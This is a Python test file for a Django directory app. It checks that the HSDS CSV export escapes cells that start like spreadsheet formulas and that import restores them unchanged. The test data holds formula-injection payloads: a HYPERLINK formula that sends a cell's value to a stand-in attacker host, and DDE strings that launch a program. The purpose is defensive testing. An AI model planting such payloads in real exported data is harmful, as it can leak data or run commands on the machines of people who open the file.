"""Finding 8: the HSDS export neutralises spreadsheet formulas, and reads them back unchanged."""

import csv

from django.core.management import call_command

from directory.exchange.tabular import FORMULA_STARTS
from directory.models import Listing

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def test_every_exported_cell_that_starts_like_a_formula_is_neutralised_and_reads_back(make_listing, tmp_path):
    make_listing(
        CALC, slug="evil", organization=SUM, description=HYPERLINK, eligibility=MINUS, city="Taos",
        latitude=36.4, longitude=-105.57, counties_served=["taos"],
    )

    call_command("export_hsds", str(tmp_path))

    cells = [cell for path in tmp_path.glob("*.csv") for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS) and not c.lstrip("+-").replace(".", "", 1).isdigit()]
    assert dangerous == []
    assert "'" + HYPERLINK in cells and "'" + CALC in cells and "'" + SUM in cells and "'" + MINUS in cells
    assert "-105.57" in cells  # numbers stay numbers

    call_command("import_hsds", str(tmp_path))  # the same package, back into the same listing

    listing = Listing.objects.get()
    assert (listing.name, listing.organization.name, listing.description, listing.eligibility) == (
        CALC, SUM, HYPERLINK, MINUS
    )
